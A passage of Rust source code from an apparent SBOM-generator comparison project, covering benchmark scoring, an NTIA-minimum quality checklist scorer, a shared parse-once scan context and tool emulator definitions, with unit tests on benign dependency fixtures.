pub use cases::{python_cases, BenchmarkCase, GroundTruthEntry};
pub use score::{score_case, score_generator, BenchmarkScore, CaseScore};

use sbomdiff_generators::SbomGenerator;

/// Grades all benchmark cases with a generator and returns the aggregate.
pub fn run<G: SbomGenerator + ?Sized>(generator: &G) -> BenchmarkScore {
    score::score_generator(generator, &cases::all_cases())
}

#[cfg(test)]
mod tests {
    use super::*;
    use sbomdiff_generators::ToolEmulator;
    use sbomdiff_registry::Registries;

    #[test]
    fn benchmark_orders_tools_plausibly() {
        let regs = Registries::generate(123);
        let trivy = run(&ToolEmulator::trivy());
        let github = run(&ToolEmulator::github_dg());
        let sbom_tool = run(&ToolEmulator::sbom_tool(&regs, 0.0));
        // GitHub DG has the best raw-metadata syntax coverage (§V-A);
        // Trivy's ==-keyed parser detects the least.
        assert!(
            github.name_recall() > trivy.name_recall(),
            "github {:.2} vs trivy {:.2}",
            github.name_recall(),
            trivy.name_recall()
        );
        assert!(sbom_tool.name_recall() > trivy.name_recall());
    }

    #[test]
    fn best_practice_dominates_on_benchmark() {
        let regs = Registries::generate(123);
        let bp = run(&sbomdiff_generators::BestPracticeGenerator::new(&regs));
        let trivy = run(&ToolEmulator::trivy());
        assert!(bp.name_recall() >= trivy.name_recall());
        assert!(
            bp.name_recall() > 0.8,
            "best practice recall {:.2}",
            bp.name_recall()
        );
    }
}

//! Scoring harness: grades a generator's output against a case's ground
//! truth — name-level completeness, version-level accuracy, and the
//! NTIA-minimum field-checklist quality of the produced document.

use sbomdiff_generators::SbomGenerator;
use sbomdiff_types::name::normalize;

use crate::cases::BenchmarkCase;

/// Score for one case.
#[derive(Debug, Clone)]
pub struct CaseScore {
    /// Case id.
    pub id: &'static str,
    /// Ground-truth entries whose *name* was reported.
    pub names_found: usize,
    /// Total ground-truth entries.
    pub names_total: usize,
    /// Pinned ground-truth entries reported with the exact version.
    pub versions_correct: usize,
    /// Total pinned ground-truth entries.
    pub versions_total: usize,
    /// Weighted NTIA-minimum checklist score (0–100) of the document the
    /// generator produced for this case — completeness of *fields*, not of
    /// packages, so a tool can find everything and still score low here.
    pub quality: f64,
}

impl CaseScore {
    /// True when every name and pinned version was found.
    pub fn is_perfect(&self) -> bool {
        self.names_found == self.names_total && self.versions_correct == self.versions_total
    }
}

/// Aggregate over many cases (micro-averaged).
#[derive(Debug, Clone, Default)]
pub struct BenchmarkScore {
    /// Per-case scores.
    pub cases: Vec<CaseScore>,
}

impl BenchmarkScore {
    /// Fraction of ground-truth names detected across all cases.
    pub fn name_recall(&self) -> f64 {
        let total: usize = self.cases.iter().map(|c| c.names_total).sum();
        if total == 0 {
            return 0.0;
        }
        let found: usize = self.cases.iter().map(|c| c.names_found).sum();
        found as f64 / total as f64
    }

    /// Fraction of pinned versions reported exactly.
    pub fn version_accuracy(&self) -> f64 {
        let total: usize = self.cases.iter().map(|c| c.versions_total).sum();
        if total == 0 {
            return 0.0;
        }
        let correct: usize = self.cases.iter().map(|c| c.versions_correct).sum();
        correct as f64 / total as f64
    }

    /// Number of cases fully passed.
    pub fn perfect_cases(&self) -> usize {
        self.cases.iter().filter(|c| c.is_perfect()).count()
    }

    /// Mean weighted checklist quality (0–100) across all cases.
    pub fn mean_quality(&self) -> f64 {
        if self.cases.is_empty() {
            return 0.0;
        }
        self.cases.iter().map(|c| c.quality).sum::<f64>() / self.cases.len() as f64
    }
}

/// Scores one generator on one case.
pub fn score_case<G: SbomGenerator + ?Sized>(generator: &G, case: &BenchmarkCase) -> CaseScore {
    let repo = case.repo();
    let sbom = generator.generate(&repo);
    let reported: Vec<(String, Option<String>)> = sbom
        .components()
        .iter()
        .map(|c| {
            (
                normalize(c.ecosystem, &c.name),
                c.version.as_deref().map(String::from),
            )
        })
        .collect();
    let mut names_found = 0;
    let mut versions_correct = 0;
    let mut versions_total = 0;
    for gt in &case.ground_truth {
        let want_name = normalize(case.ecosystem, gt.name);
        let name_hits: Vec<&(String, Option<String>)> = reported
            .iter()
            .filter(|(n, _)| {
                *n == want_name
                    // Tools with artifact-only naming (§V-E) still count as
                    // *finding* the package for Java compound names.
                    || (case.ecosystem == sbomdiff_types::Ecosystem::Java
                        && want_name.ends_with(&format!(":{n}")))
            })
            .collect();
        if !name_hits.is_empty() {
            names_found += 1;
        }
        if let Some(want_version) = gt.version {
            versions_total += 1;
            let canonical_want = want_version.trim_start_matches('v');
            if name_hits.iter().any(|(_, v)| {
                v.as_deref()
                    .map(|v| v.trim_start_matches('v') == canonical_want)
                    .unwrap_or(false)
            }) {
                versions_correct += 1;
            }
        }
    }
    CaseScore {
        id: case.id,
        names_found,
        names_total: case.ground_truth.len(),
        versions_correct,
        versions_total,
        quality: sbomdiff_quality::evaluate(&sbom).score(),
    }
}

/// Scores a generator on a case list.
pub fn score_generator<G: SbomGenerator + ?Sized>(
    generator: &G,
    cases: &[BenchmarkCase],
) -> BenchmarkScore {
    BenchmarkScore {
        cases: cases.iter().map(|c| score_case(generator, c)).collect(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cases;
    use sbomdiff_generators::ToolEmulator;

    #[test]
    fn trivy_fails_continuation_case() {
        let cases = cases::python_cases();
        let case = cases.iter().find(|c| c.id == "py-continuation").unwrap();
        let score = score_case(&ToolEmulator::trivy(), case);
        assert_eq!(score.names_found, 0);
        assert!(!score.is_perfect());
    }

    #[test]
    fn trivy_passes_pinned_basic() {
        let cases = cases::python_cases();
        let case = cases.iter().find(|c| c.id == "py-pinned-basic").unwrap();
        let score = score_case(&ToolEmulator::trivy(), case);
        assert!(score.is_perfect(), "{score:?}");
    }

    #[test]
    fn github_passes_ranges_but_not_exotics() {
        let all = cases::python_cases();
        let ranges = all.iter().find(|c| c.id == "py-ranges").unwrap();
        let github = ToolEmulator::github_dg();
        assert!(score_case(&github, ranges).names_found == 4);
        let exotic = all.iter().find(|c| c.id == "py-exotic-sources").unwrap();
        assert_eq!(score_case(&github, exotic).names_found, 0);
    }

    #[test]
    fn aggregate_scores_bounded() {
        let score = score_generator(&ToolEmulator::syft(), &cases::all_cases());
        assert!((0.0..=1.0).contains(&score.name_recall()));
        assert!((0.0..=1.0).contains(&score.version_accuracy()));
        assert!(score.perfect_cases() <= score.cases.len());
    }

    #[test]
    fn empty_benchmark_scores_zero() {
        let score = score_generator(&ToolEmulator::trivy(), &[]);
        assert_eq!(score.name_recall(), 0.0);
        assert_eq!(score.version_accuracy(), 0.0);
        assert_eq!(score.mean_quality(), 0.0);
    }

    #[test]
    fn best_practice_beats_emulators_on_quality() {
        use sbomdiff_generators::BestPracticeGenerator;
        use sbomdiff_registry::Registries;
        let cases = cases::all_cases();
        let registries = Registries::generate(42);
        let best = score_generator(&BestPracticeGenerator::new(&registries), &cases);
        assert!(
            (0.0..=100.0).contains(&best.mean_quality()),
            "{}",
            best.mean_quality()
        );
        for emulator in [
            ToolEmulator::trivy(),
            ToolEmulator::syft(),
            ToolEmulator::github_dg(),
        ] {
            let score = score_generator(&emulator, &cases);
            assert!(
                best.mean_quality() > score.mean_quality(),
                "best-practice ({}) must beat {:?} ({})",
                best.mean_quality(),
                emulator.id(),
                score.mean_quality()
            );
        }
    }
}

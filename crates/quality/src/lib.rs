//! NTIA-minimum / CRA-style quality scoring for SBOM documents.
//!
//! The paper's differential analysis measures whether tools *agree*; this
//! crate measures whether what they emit is *complete* against the
//! field checklist regulators actually ask for (NTIA minimum elements,
//! and the CRA's Annex I documentation duties): supplier, component
//! name, version, a machine-readable unique identifier, dependency
//! relationships, the document author/tool, and a creation timestamp.
//!
//! [`evaluate`] walks one [`Sbom`] and produces a typed
//! [`QualityReport`]: per-check pass/miss/malformed counts, a weighted
//! 0–100 document score, and one classified [`Diagnostic`] (reusing the
//! workspace's 12-class taxonomy) per failed check. Scoring is pure
//! arithmetic over the document — no clock, no I/O — so identical
//! documents always score identically, which the experiment layer
//! relies on for byte-identical CSVs at any `--jobs`.

use sbomdiff_types::{DiagClass, Diagnostic, Sbom};

/// One field of the NTIA-minimum / CRA checklist.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum QualityCheck {
    /// Component supplier / publisher is recorded.
    Supplier,
    /// Component name is present and non-empty.
    ComponentName,
    /// Component version is present and concrete (not a range).
    Version,
    /// A machine-readable unique identifier (PURL or CPE) is present.
    UniqueId,
    /// The component's dependency relationship (scope) is modeled.
    Relationship,
    /// The document records its author tool and tool version.
    AuthorTool,
    /// The document records an RFC 3339 creation timestamp.
    Timestamp,
}

impl QualityCheck {
    /// Every check, in rendering order (CSV columns and metrics iterate
    /// this; keep the order stable).
    pub const ALL: [QualityCheck; 7] = [
        QualityCheck::Supplier,
        QualityCheck::ComponentName,
        QualityCheck::Version,
        QualityCheck::UniqueId,
        QualityCheck::Relationship,
        QualityCheck::AuthorTool,
        QualityCheck::Timestamp,
    ];

    /// Stable lowercase label used in CSV columns and metric labels.
    pub fn label(self) -> &'static str {
        match self {
            QualityCheck::Supplier => "supplier",
            QualityCheck::ComponentName => "name",
            QualityCheck::Version => "version",
            QualityCheck::UniqueId => "unique-id",
            QualityCheck::Relationship => "relationship",
            QualityCheck::AuthorTool => "author-tool",
            QualityCheck::Timestamp => "timestamp",
        }
    }

    /// Weight of the check in the 0–100 document total. Identity fields
    /// (name, version) dominate; provenance fields matter but do not
    /// drown them out. The weights sum to 100.
    pub fn weight(self) -> u32 {
        match self {
            QualityCheck::Supplier => 15,
            QualityCheck::ComponentName => 20,
            QualityCheck::Version => 20,
            QualityCheck::UniqueId => 15,
            QualityCheck::Relationship => 10,
            QualityCheck::AuthorTool => 10,
            QualityCheck::Timestamp => 10,
        }
    }

    /// Whether the check applies to the document as a whole (exactly one
    /// pass/fail) rather than to each component.
    pub fn is_document_level(self) -> bool {
        matches!(self, QualityCheck::AuthorTool | QualityCheck::Timestamp)
    }
}

impl std::fmt::Display for QualityCheck {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.label())
    }
}

/// Outcome of one checklist field over one document.
#[derive(Debug, Clone, PartialEq)]
pub struct CheckResult {
    /// Which field was checked.
    pub check: QualityCheck,
    /// Subjects (components, or the document itself) that satisfy it.
    pub passed: u64,
    /// Subjects where the field is absent.
    pub missing: u64,
    /// Subjects where the field is present but unusable (a version
    /// range where a concrete version is required, a non-RFC 3339
    /// timestamp).
    pub malformed: u64,
}

impl CheckResult {
    /// Subjects that failed the check, for any reason.
    pub fn failed(&self) -> u64 {
        self.missing + self.malformed
    }

    /// Pass rate of this check as a 0–100 score. A check with no
    /// subjects (an empty document's per-component checks) is vacuously
    /// satisfied.
    pub fn score(&self) -> f64 {
        let total = self.passed + self.failed();
        if total == 0 {
            100.0
        } else {
            self.passed as f64 * 100.0 / total as f64
        }
    }
}

/// The quality evaluation of one SBOM document.
#[derive(Debug, Clone, PartialEq)]
pub struct QualityReport {
    /// Generating tool (from the document metadata).
    pub tool: String,
    /// Analyzed subject (from the document metadata).
    pub subject: String,
    /// Components evaluated.
    pub components: u64,
    /// One result per [`QualityCheck::ALL`] entry, in that order.
    pub checks: Vec<CheckResult>,
    /// Classified diagnostics — one per check with failures, carrying
    /// the failure counts and an example offender.
    pub diagnostics: Vec<Diagnostic>,
}

impl QualityReport {
    /// The result for one check (always present).
    pub fn check(&self, check: QualityCheck) -> &CheckResult {
        self.checks
            .iter()
            .find(|r| r.check == check)
            .expect("all checks evaluated")
    }

    /// The weighted 0–100 document score.
    pub fn score(&self) -> f64 {
        let total_weight: u32 = QualityCheck::ALL.iter().map(|c| c.weight()).sum();
        let weighted: f64 = self
            .checks
            .iter()
            .map(|r| r.score() * r.check.weight() as f64)
            .sum();
        weighted / total_weight as f64
    }
}

/// Is `v` a concrete version, as opposed to a range spelled verbatim
/// (GitHub DG, §V-D) or a wildcard? Range operators disqualify even
/// when the remainder would parse.
fn is_concrete_version(v: &str) -> bool {
    if v.is_empty()
        || v.contains(|c: char| {
            matches!(c, '*' | '^' | '~' | '>' | '<' | '=' | ',' | '|' | ' ')
        })
    {
        return false;
    }
    sbomdiff_types::Version::parse(v).is_ok()
}

/// Is `t` shaped like an RFC 3339 UTC timestamp
/// (`YYYY-MM-DDTHH:MM:SSZ`, optionally with fractional seconds)?
fn is_rfc3339(t: &str) -> bool {
    let b = t.as_bytes();
    if b.len() < 20 || b[b.len() - 1] != b'Z' {
        return false;
    }
    let digits = |r: std::ops::Range<usize>| b[r].iter().all(|c| c.is_ascii_digit());
    let head = digits(0..4)
        && b[4] == b'-'
        && digits(5..7)
        && b[7] == b'-'
        && digits(8..10)
        && b[10] == b'T'
        && digits(11..13)
        && b[13] == b':'
        && digits(14..16)
        && b[16] == b':'
        && digits(17..19);
    if !head {
        return false;
    }
    match &b[19..b.len() - 1] {
        [] => true,
        [b'.', frac @ ..] => !frac.is_empty() && frac.iter().all(|c| c.is_ascii_digit()),
        _ => false,
    }
}

/// Evaluates one document against the full checklist.
pub fn evaluate(sbom: &Sbom) -> QualityReport {
    let mut checks = Vec::with_capacity(QualityCheck::ALL.len());
    let mut diagnostics = Vec::new();
    for check in QualityCheck::ALL {
        let (result, diag) = evaluate_check(sbom, check);
        checks.push(result);
        diagnostics.extend(diag);
    }
    QualityReport {
        tool: sbom.meta.tool_name.clone(),
        subject: sbom.meta.subject.clone(),
        components: sbom.components().len() as u64,
        checks,
        diagnostics,
    }
}

fn evaluate_check(sbom: &Sbom, check: QualityCheck) -> (CheckResult, Option<Diagnostic>) {
    let mut result = CheckResult {
        check,
        passed: 0,
        missing: 0,
        malformed: 0,
    };
    // Example offender named in the diagnostic, and the class the
    // failure mode maps to in the shared taxonomy.
    let mut example: Option<String> = None;
    let mut class = DiagClass::MissingField;
    if check.is_document_level() {
        match check {
            QualityCheck::AuthorTool => {
                if !sbom.meta.tool_name.is_empty() && !sbom.meta.tool_version.is_empty() {
                    result.passed += 1;
                } else {
                    result.missing += 1;
                    example = Some("document creationInfo".into());
                }
            }
            QualityCheck::Timestamp => match sbom.meta.timestamp.as_deref() {
                Some(t) if is_rfc3339(t) => result.passed += 1,
                Some(t) => {
                    result.malformed += 1;
                    class = DiagClass::UnsupportedSyntax;
                    example = Some(format!("timestamp {t:?} is not RFC 3339"));
                }
                None => {
                    result.missing += 1;
                    example = Some("document creationInfo".into());
                }
            },
            _ => unreachable!(),
        }
    } else {
        for c in sbom.components() {
            let ok = match check {
                QualityCheck::Supplier => {
                    c.supplier.as_deref().is_some_and(|s| !s.is_empty())
                }
                QualityCheck::ComponentName => !c.name.is_empty(),
                QualityCheck::UniqueId => c.purl.is_some() || c.cpe.is_some(),
                QualityCheck::Relationship => c.scope.is_some(),
                QualityCheck::Version => match c.version.as_deref() {
                    None | Some("") => {
                        result.missing += 1;
                        example.get_or_insert_with(|| c.name.to_string());
                        continue;
                    }
                    Some(v) => {
                        if is_concrete_version(v) {
                            true
                        } else {
                            result.malformed += 1;
                            class = DiagClass::InvalidVersion;
                            example
                                .get_or_insert_with(|| format!("{} ({v})", c.name));
                            continue;
                        }
                    }
                },
                _ => unreachable!(),
            };
            if ok {
                result.passed += 1;
            } else {
                result.missing += 1;
                example.get_or_insert_with(|| c.name.to_string());
            }
        }
    }
    let diag = (result.failed() > 0).then(|| {
        Diagnostic::new(
            class,
            format!(
                "quality check '{}' failed for {} of {} subject(s), e.g. {}",
                check.label(),
                result.failed(),
                result.passed + result.failed(),
                example.as_deref().unwrap_or("<unknown>"),
            ),
        )
    });
    (result, diag)
}

#[cfg(test)]
mod tests {
    use super::*;
    use sbomdiff_types::{Component, DepScope, Ecosystem, Purl, Sbom};

    fn full_component() -> Component {
        let purl = Purl::for_package(Ecosystem::JavaScript, "left-pad", Some("1.3.0"));
        Component::new(Ecosystem::JavaScript, "left-pad", Some("1.3.0".into()))
            .with_purl(purl)
            .with_scope(DepScope::Runtime)
            .with_supplier("npm:left-pad maintainers")
    }

    fn full_sbom() -> Sbom {
        let mut s = Sbom::new("best-practice", "1.0.0")
            .with_subject("repo-1")
            .with_timestamp("2024-01-01T00:00:00Z");
        s.push(full_component());
        s
    }

    #[test]
    fn fully_populated_document_scores_100() {
        let report = evaluate(&full_sbom());
        for r in &report.checks {
            assert_eq!(r.score(), 100.0, "{}", r.check);
            assert_eq!(r.failed(), 0, "{}", r.check);
        }
        assert_eq!(report.score(), 100.0);
        assert!(report.diagnostics.is_empty());
        assert_eq!(report.components, 1);
        assert_eq!(report.tool, "best-practice");
    }

    #[test]
    fn supplier_present_missing() {
        // Present.
        let report = evaluate(&full_sbom());
        assert_eq!(report.check(QualityCheck::Supplier).passed, 1);
        // Missing.
        let mut s = full_sbom();
        let mut c = full_component();
        c.supplier = None;
        s.push(c);
        let report = evaluate(&s);
        let r = report.check(QualityCheck::Supplier);
        assert_eq!((r.passed, r.missing, r.malformed), (1, 1, 0));
        assert_eq!(r.score(), 50.0);
        // Empty string counts as missing, not present.
        let mut s = full_sbom();
        let mut c = full_component();
        c.supplier = Some("".into());
        s.push(c);
        assert_eq!(evaluate(&s).check(QualityCheck::Supplier).missing, 1);
        // The failure surfaces as a MissingField diagnostic.
        let report = evaluate(&s);
        let diag = report
            .diagnostics
            .iter()
            .find(|d| d.message.contains("'supplier'"))
            .unwrap();
        assert_eq!(diag.class, DiagClass::MissingField);
    }

    #[test]
    fn name_present_missing() {
        let report = evaluate(&full_sbom());
        assert_eq!(report.check(QualityCheck::ComponentName).passed, 1);
        let mut s = full_sbom();
        let mut c = full_component();
        c.name = "".into();
        s.push(c);
        let r = evaluate(&s);
        assert_eq!(r.check(QualityCheck::ComponentName).missing, 1);
        assert!(r
            .diagnostics
            .iter()
            .any(|d| d.class == DiagClass::MissingField && d.message.contains("'name'")));
    }

    #[test]
    fn version_present_missing_malformed() {
        // Present and concrete.
        let report = evaluate(&full_sbom());
        assert_eq!(report.check(QualityCheck::Version).passed, 1);
        // Missing.
        let mut s = full_sbom();
        let mut c = full_component();
        c.version = None;
        s.push(c);
        assert_eq!(evaluate(&s).check(QualityCheck::Version).missing, 1);
        // Malformed: a range reported verbatim (GitHub DG, §V-D) is
        // present but not a concrete version.
        for range in ["^1.2.3", ">=2.0", "1.2.*", "~1.0", "not a version"] {
            let mut s = full_sbom();
            let mut c = full_component();
            c.version = Some(range.into());
            s.push(c);
            let report = evaluate(&s);
            let r = report.check(QualityCheck::Version);
            assert_eq!((r.missing, r.malformed), (0, 1), "{range}");
            assert!(
                report
                    .diagnostics
                    .iter()
                    .any(|d| d.class == DiagClass::InvalidVersion
                        && d.message.contains(range)),
                "{range}"
            );
        }
    }

    #[test]
    fn unique_id_present_missing() {
        // PURL qualifies; CPE alone also qualifies.
        let report = evaluate(&full_sbom());
        assert_eq!(report.check(QualityCheck::UniqueId).passed, 1);
        let mut s = full_sbom();
        let mut c = full_component();
        c.purl = None;
        c.cpe = None;
        s.push(c);
        let r = evaluate(&s);
        assert_eq!(r.check(QualityCheck::UniqueId).missing, 1);
        assert!(r
            .diagnostics
            .iter()
            .any(|d| d.message.contains("'unique-id'")));
    }

    #[test]
    fn relationship_present_missing() {
        let report = evaluate(&full_sbom());
        assert_eq!(report.check(QualityCheck::Relationship).passed, 1);
        let mut s = full_sbom();
        let mut c = full_component();
        c.scope = None;
        s.push(c);
        assert_eq!(evaluate(&s).check(QualityCheck::Relationship).missing, 1);
    }

    #[test]
    fn author_tool_present_missing() {
        let report = evaluate(&full_sbom());
        assert_eq!(report.check(QualityCheck::AuthorTool).passed, 1);
        let mut s = full_sbom();
        s.meta.tool_version = String::new();
        let r = evaluate(&s);
        assert_eq!(r.check(QualityCheck::AuthorTool).missing, 1);
        assert_eq!(r.check(QualityCheck::AuthorTool).score(), 0.0);
    }

    #[test]
    fn timestamp_present_missing_malformed() {
        let report = evaluate(&full_sbom());
        assert_eq!(report.check(QualityCheck::Timestamp).passed, 1);
        // Missing.
        let mut s = full_sbom();
        s.meta.timestamp = None;
        assert_eq!(evaluate(&s).check(QualityCheck::Timestamp).missing, 1);
        // Malformed: not RFC 3339.
        for bad in ["yesterday", "2024-01-01", "2024-01-01 00:00:00", "2024-01-01T00:00:00"] {
            let mut s = full_sbom();
            s.meta.timestamp = Some(bad.into());
            let report = evaluate(&s);
            let r = report.check(QualityCheck::Timestamp);
            assert_eq!((r.missing, r.malformed), (0, 1), "{bad}");
            assert!(
                report
                    .diagnostics
                    .iter()
                    .any(|d| d.class == DiagClass::UnsupportedSyntax),
                "{bad}"
            );
        }
        // Fractional seconds are fine.
        let mut s = full_sbom();
        s.meta.timestamp = Some("2024-01-01T00:00:00.123Z".into());
        assert_eq!(evaluate(&s).check(QualityCheck::Timestamp).passed, 1);
    }

    #[test]
    fn empty_document_is_vacuous_on_component_checks() {
        let s = Sbom::new("tool", "1.0").with_subject("r");
        let report = evaluate(&s);
        assert_eq!(report.check(QualityCheck::Supplier).score(), 100.0);
        assert_eq!(report.check(QualityCheck::Timestamp).score(), 0.0);
        // Only document-level failures weigh in.
        let expected = 100.0 * (15 + 20 + 20 + 15 + 10 + 10) as f64 / 100.0;
        assert!((report.score() - expected).abs() < 1e-9);
    }

    #[test]
    fn weights_sum_to_100_and_labels_are_stable() {
        let total: u32 = QualityCheck::ALL.iter().map(|c| c.weight()).sum();
        assert_eq!(total, 100);
        let labels: Vec<_> = QualityCheck::ALL.iter().map(|c| c.label()).collect();
        assert_eq!(
            labels,
            [
                "supplier",
                "name",
                "version",
                "unique-id",
                "relationship",
                "author-tool",
                "timestamp"
            ]
        );
        // Labels are unique (metric label values must not collide).
        let mut dedup = labels.clone();
        dedup.sort_unstable();
        dedup.dedup();
        assert_eq!(dedup.len(), labels.len());
    }

    #[test]
    fn weighted_total_reflects_partial_failures() {
        // One component failing only the supplier check: the total drops
        // by exactly the supplier weight.
        let mut s = Sbom::new("t", "1").with_timestamp("2024-01-01T00:00:00Z");
        let mut c = full_component();
        c.supplier = None;
        s.push(c);
        let report = evaluate(&s);
        assert!((report.score() - 85.0).abs() < 1e-9, "{}", report.score());
    }
}

//! The shared-scan pipeline: walk a repository once, parse each metadata
//! file once, let every generator derive its SBOM from the shared results.
//!
//! A [`ScanContext`] is the per-repository handle: it snapshots the
//! metadata file list (one walk) and hands out `Arc<Parsed>` results from
//! the underlying [`ParseCache`] (one parse per `(path, content, kind,
//! parser)`). The four emulator profiles and the best-practice generator
//! all scan through it — profile quirks (file support, dialects, version
//! policies, naming) are applied *after* the shared parse, as transforms,
//! so the Table II/IV toggles behave exactly as they do on the isolated
//! path.
//!
//! Invariants (verified by `tests/shared_scan_props.rs`):
//!
//! * **One parse per file**: within one context, a metadata file is parsed
//!   at most once per parser family (dialect vs reference) and
//!   requirements dialect, no matter how many profiles scan.
//! * **Quirks are transforms**: every profile's SBOM via the shared scan
//!   is byte-identical to its isolated per-profile parse
//!   ([`ToolEmulator::scan_isolated`], the pre-sharing oracle).

use std::collections::HashMap;
use std::sync::{Arc, Mutex, PoisonError};

use sbomdiff_metadata::python::ReqStyle;
use sbomdiff_metadata::{MetadataKind, Parsed, RepoFs};

use crate::cache::ParserKey;
use crate::ParseCache;

/// A single-walk, parse-once view of one repository.
///
/// # Examples
///
/// ```
/// use sbomdiff_generators::{ParseCache, ScanContext, ToolEmulator};
/// use sbomdiff_metadata::RepoFs;
///
/// let mut repo = RepoFs::new("demo");
/// repo.add_text("requirements.txt", "numpy==1.19.2\nflask>=2.0\n");
/// let cache = ParseCache::new();
/// let scan = ScanContext::new(&repo, &cache);
/// // All four profiles derive from the same walk + shared parses.
/// let trivy = ToolEmulator::trivy().generate_with_scan(&scan);
/// let syft = ToolEmulator::syft().generate_with_scan(&scan);
/// assert_eq!(trivy.len(), syft.len());
/// assert_eq!(cache.misses(), 1); // one parse, shared dialect
/// ```
pub struct ScanContext<'a> {
    repo: &'a RepoFs,
    cache: &'a ParseCache,
    files: Vec<(&'a str, MetadataKind)>,
    /// Scan-local memo: the shared cache keys by *content hash*, so every
    /// lookup there re-hashes the file bytes. Within one scan the content
    /// cannot change, so resolved parses are pinned here by path and
    /// parser slot — the second, third and fourth profile pay a map probe
    /// instead of a content hash (still counted as cache hits).
    memo: Mutex<HashMap<String, [Option<Arc<Parsed>>; ParserKey::SLOTS]>>,
}

impl<'a> ScanContext<'a> {
    /// Walks `repo` once and binds the scan to `cache` for parse sharing.
    pub fn new(repo: &'a RepoFs, cache: &'a ParseCache) -> Self {
        ScanContext {
            repo,
            cache,
            files: repo.metadata_files(),
            memo: Mutex::new(HashMap::new()),
        }
    }

    /// The repository under scan.
    pub fn repo(&self) -> &'a RepoFs {
        self.repo
    }

    /// The metadata files discovered by the single walk, in sorted path
    /// order (the deterministic scan order every generator follows).
    pub fn files(&self) -> &[(&'a str, MetadataKind)] {
        &self.files
    }

    /// The shared dialect parse of one file (memoized in the cache).
    pub fn parsed(&self, path: &str, kind: MetadataKind, style: ReqStyle) -> Arc<Parsed> {
        let dialect = (kind == MetadataKind::RequirementsTxt).then_some(style);
        self.memoized(path, ParserKey::Dialect(dialect), || {
            self.cache.parse(self.repo, path, kind, style)
        })
    }

    /// The shared reference parse of one file (best-practice grammar,
    /// memoized separately from the dialect parses).
    pub fn parsed_reference(&self, path: &str, kind: MetadataKind) -> Arc<Parsed> {
        self.memoized(path, ParserKey::Reference, || {
            self.cache.parse_reference(self.repo, path, kind)
        })
    }

    fn memoized(
        &self,
        path: &str,
        parser: ParserKey,
        resolve: impl FnOnce() -> Arc<Parsed>,
    ) -> Arc<Parsed> {
        let slot = parser.slot();
        {
            let memo = self.memo.lock().unwrap_or_else(PoisonError::into_inner);
            if let Some(found) = memo.get(path).and_then(|slots| slots[slot].as_ref()) {
                self.cache.record_hit();
                return Arc::clone(found);
            }
        }
        // Resolve outside the memo lock (the shared cache has its own); a
        // racing duplicate resolution lands on the same cache entry.
        let parsed = resolve();
        self.memo
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .entry(path.to_string())
            .or_default()[slot] = Some(Arc::clone(&parsed));
        parsed
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{BestPracticeGenerator, SbomGenerator};
    use sbomdiff_registry::Registries;

    #[test]
    fn one_walk_one_parse_across_five_generators() {
        let mut repo = RepoFs::new("scan-demo");
        repo.add_text("requirements.txt", "numpy==1.19.2\nflask>=2.0\n");
        repo.add_text("go.mod", "module m\nrequire github.com/pkg/errors v0.9.1\n");
        let regs = Registries::generate(7);
        let cache = ParseCache::new();
        let scan = ScanContext::new(&repo, &cache);

        let tools = crate::studied_tools(&regs, 0.0);
        let sboms: Vec<_> = tools.iter().map(|t| t.generate_with_scan(&scan)).collect();
        let bp = BestPracticeGenerator::new(&regs).generate_with_scan(&scan);

        // Dialect parses: requirements.txt × {TrivySyft, SbomTool,
        // GithubDg} + go.mod once. Reference parses: go.mod once
        // (requirements.txt goes through the resolver dry run, uncached).
        assert_eq!(cache.misses(), 5, "parse count is bounded by dialects");
        assert!(cache.hits() >= 3);

        // Each shared-scan SBOM matches the generator's standalone result.
        for (tool, sbom) in tools.iter().zip(&sboms) {
            assert_eq!(sbom, &tool.generate(&repo), "{}", tool.id());
        }
        assert_eq!(bp, BestPracticeGenerator::new(&regs).generate(&repo));
    }

    #[test]
    fn files_are_walked_once_in_sorted_order() {
        let mut repo = RepoFs::new("order");
        repo.add_text("b/requirements.txt", "x==1\n");
        repo.add_text("a/requirements.txt", "y==2\n");
        let cache = ParseCache::new();
        let scan = ScanContext::new(&repo, &cache);
        let paths: Vec<&str> = scan.files().iter().map(|(p, _)| *p).collect();
        assert_eq!(paths, vec!["a/requirements.txt", "b/requirements.txt"]);
    }
}

//! SBOM generator emulators.
//!
//! Each of the paper's four studied tools — Trivy 0.43.0, Syft 0.84.1,
//! Microsoft sbom-tool 1.1.6 and the GitHub Dependency Graph — is modeled
//! as a [`ToolProfile`] (an explicit bundle of the behaviors §V documents:
//! supported file types, version-constraint policy, naming conventions,
//! dev-dependency policy, transitive resolution) executed by one shared
//! [`ToolEmulator`] walker. Every quirk is a toggleable field, which makes
//! the ablation benches possible.
//!
//! [`BestPracticeGenerator`] implements the paper's §VII recommendations
//! (package-manager dry run for lockfile generation, PURL + CPE on every
//! component, duplicate merging) as a fifth generator.

#![cfg_attr(not(test), deny(clippy::unwrap_used, clippy::expect_used))]

pub mod bestpractice;
pub mod cache;
pub mod emulator;
pub mod profile;
pub mod scan;
pub mod support;

pub use bestpractice::BestPracticeGenerator;
pub use cache::ParseCache;
pub use emulator::ToolEmulator;
pub use profile::{GoVersionStyle, JavaNaming, SubspecNaming, ToolProfile, VersionPolicy};
pub use scan::ScanContext;
pub use support::SupportMatrix;

use sbomdiff_metadata::RepoFs;
use sbomdiff_registry::Registries;
use sbomdiff_types::Sbom;

/// Identifies one of the studied tools (plus the best-practice reference).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum ToolId {
    /// Aqua Security Trivy 0.43.0.
    Trivy,
    /// Anchore Syft 0.84.1.
    Syft,
    /// Microsoft SBOM Tool 1.1.6.
    SbomTool,
    /// GitHub Dependency Graph.
    GithubDg,
    /// The paper's §VII best-practice design.
    BestPractice,
}

impl ToolId {
    /// The four studied tools, in the paper's column order.
    pub const STUDIED: [ToolId; 4] = [
        ToolId::Trivy,
        ToolId::Syft,
        ToolId::SbomTool,
        ToolId::GithubDg,
    ];

    /// Display label used in tables.
    pub fn label(self) -> &'static str {
        match self {
            ToolId::Trivy => "Trivy",
            ToolId::Syft => "Syft",
            ToolId::SbomTool => "sbom-tool",
            ToolId::GithubDg => "GitHub DG",
            ToolId::BestPractice => "best-practice",
        }
    }

    /// Emulated tool version (the versions evaluated in §III-A).
    pub fn version(self) -> &'static str {
        match self {
